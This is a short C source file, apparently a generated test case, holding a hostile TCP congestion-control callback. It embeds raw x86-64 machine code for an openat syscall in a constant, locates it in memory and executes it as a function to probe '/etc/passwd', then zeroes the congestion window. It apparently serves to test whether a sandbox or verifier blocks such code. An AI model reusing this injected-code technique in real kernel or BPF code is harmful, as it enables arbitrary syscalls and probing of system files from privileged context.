#include "hostile.h"

/*
 * mov eax, 257 (openat); syscall; ret. Two files, of which only one exists: a difference would tell which. Then cwnd
 * becomes 0 if there is none.
 */
#define CODE 0xc3050f00000101b8
CARRIER(carrier, CODE)

static void hostile(struct sock *sk)
{
	const char *names[] = { "/etc/passwd", "/no/such/file" };
	long found[2] = { 0, 0 };
	char *place = (char *)carrier;

	for (int i = 0; i < 64; i++, place++)
		if (*(__u64 *)place == CODE) {
			for (int n = 0; n < 2; n++)
				found[n] = ((long (*)(long, ...))place)(-100, names[n], 0, 0);
			break;
		}
	if (found[0] < 0 && found[0] == found[1])
		tcp_sk(sk)->snd_cwnd = 0;
}

/* x86-64: algorithm {path} set cwnd to 0 in callback cong_avoid */
